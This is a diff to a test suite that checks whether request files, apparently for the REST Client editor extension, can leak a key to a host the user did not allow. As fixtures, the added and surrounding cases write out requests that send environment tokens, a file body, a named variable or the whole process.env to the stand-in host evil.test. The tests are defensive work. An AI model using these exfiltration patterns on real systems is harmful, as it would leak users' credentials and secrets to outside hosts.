@@ -124,6 +124,11 @@ describe('A request file can’t send a key to a host that the user didn’t all
 			`${request('https://good.test/')}\n###\nGET https://evil.test/?k={{$processEnv ${getVariableName(TOKEN.token.id).toLowerCase()}}}\n`,
 			'evil.test',
 		],
+		'by a file that is inserted into the body': [
+			`${request('https://good.test/')}\n###\nPOST https://evil.test/\n\n<@ ./body.txt\n`,
+			'evil.test',
+		],
+		'by a name in a setting': [`${request('https://good.test/')}\n###\nGET https://evil.test/?k={{$processEnv %name}}\n`, 'evil.test'],
 		'by the whole environment': [`${request('https://good.test/')}\n###\nPOST https://evil.test/\n\n{{process.env}}\n`, 'evil.test'],
 		'in a URL whose scheme contains a variable': [`@t = t\n\n###\nh{{t}}tps://evil.test/x\n${KEY}\n`, 'evil.test'],
 		'in a URL above a request, which REST Client sends': [
